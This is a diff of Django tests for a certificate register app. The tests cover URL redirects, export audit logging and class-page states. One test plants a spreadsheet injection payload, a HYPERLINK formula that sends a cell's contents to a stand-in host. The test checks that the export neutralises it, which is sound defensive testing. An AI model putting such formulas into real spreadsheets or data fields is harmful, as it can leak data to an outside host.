@@ -12,6 +12,7 @@ from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
+from diemtua.audit.models import Entry
 from diemtua.credentials import actions, queries
 from diemtua.credentials.models import Certificate
 from diemtua.credentials.proof.checking import Reason, check_file
@@ -76,6 +77,11 @@ def test_a_code_typed_carelessly_leads_to_its_page(cast, client) -> None:
     assert client.get("/chung-nhan/", {"ma": typed}).headers["Location"] == f"/chung-nhan/{code}"
     assert client.get(f"/chung-nhan/{code.lower()}").headers["Location"] == f"/chung-nhan/{code}"
     assert client.get("/en/certificate/", {"ma": typed}).headers["Location"] == f"/en/certificate/{code}"
+
+
+@pytest.mark.parametrize("nothing", ["-", "---", "..."])
+def test_a_code_of_no_letters_leads_to_where_one_is_typed(db, client, nothing) -> None:
+    assert client.get(f"/chung-nhan/{nothing}").headers["Location"] == "/chung-nhan/"
 
 
 def test_an_unknown_code_is_a_404_with_advice(db, client) -> None:
@@ -262,6 +268,21 @@ def test_the_register_workbook_holds_every_number_in_order(cast, as_) -> None:
     ]
 
 
+def test_what_leaves_the_register_is_noted_and_a_formula_in_it_is_text(cast, as_) -> None:
+    certificate = make_certificate(cast)
+    formula = '=HYPERLINK("http://x.example/?"&C2,"Tập huấn")'
+    Certificate.objects.update(printed=certificate.printed | {"course": formula})
+    file = as_(cast.binh).get("/so-chung-nhan/so-cap.xlsx").getvalue()
+    sheet = zipfile.ZipFile(io.BytesIO(file)).read("xl/worksheets/sheet1.xml")
+    assert (b"HYPERLINK" in sheet, b"<f>" in sheet) == (True, False)
+    b"".join(as_(cast.binh).get(f"/so-chung-nhan/lop/{certificate.training_class_id}/tat-ca.zip").streaming_content)
+    noted = Entry.objects.filter(action__startswith="credentials.export").order_by("pk")
+    assert [(e.action, e.actor_id, e.detail) for e in noted] == [
+        ("credentials.export_register", cast.binh.pk, {"rows": 1}),
+        ("credentials.export_class", cast.binh.pk, {"rows": 1}),
+    ]
+
+
 def test_a_class_comes_in_one_zip_without_the_revoked(cast, as_) -> None:
     make_issuer(cast)
     people = [cast.hoa_person, make_person("Đặng Thùy Linh", cast.union, position="PCT")]
@@ -289,6 +310,14 @@ def test_the_issuer_form_writes_and_says_what_is_missing(cast, as_) -> None:
     assert client.post(url, typed).status_code == 302
     assert make_issuer(cast).name_vi == "Công đoàn phường Bồ Đề"
     assert client.get(f"{url}mau.pdf").content[:5] == b"%PDF-"
+
+
+def test_the_page_of_a_class_that_is_not_finished_says_so_and_has_no_button(cast, as_) -> None:
+    make_issuer(cast)
+    address = f"/so-chung-nhan/lop/{make_finished_class(cast, [cast.hoa_person], state='called').pk}/"
+    page = text_of(as_(cast.binh).get(address))
+    assert ("kết thúc lớp</a> sau buổi cuối" in page, f'action="{address}cap/"' in page) == (True, False)
+    assert as_(cast.binh).post(f"{address}cap/").status_code == 409
 
 
 def test_pressing_issue_starts_a_job_and_comes_back_to_the_class(cast, as_) -> None:
